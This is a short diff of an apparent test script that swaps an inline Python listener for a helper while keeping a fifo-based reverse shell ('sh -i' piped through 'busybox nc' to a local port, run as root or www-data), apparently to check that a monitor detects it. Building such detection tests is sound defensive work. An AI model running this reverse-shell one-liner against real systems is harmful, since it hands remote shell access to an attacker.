@@ -5,14 +5,7 @@
 # due: now
 some_port port
 pick user root www-data
-start -u "$user" python3 -c "
-import signal, socket
-s = socket.socket()
-s.bind(('127.0.0.1', $port))
-s.listen()
-peer, _ = s.accept()
-signal.pause()"
-wait_for listens "$port"
+other_end "$port" "$user"
 start -u "$user" sh -c "mkfifo /tmp/.f; sh -i </tmp/.f 2>&1 | busybox nc 127.0.0.1 $port >/tmp/.f"
 wait_for starts -f 'busybox nc'
 wait_for sh -c "ss -Htn state established '( dport = :$port )' | grep -q ."
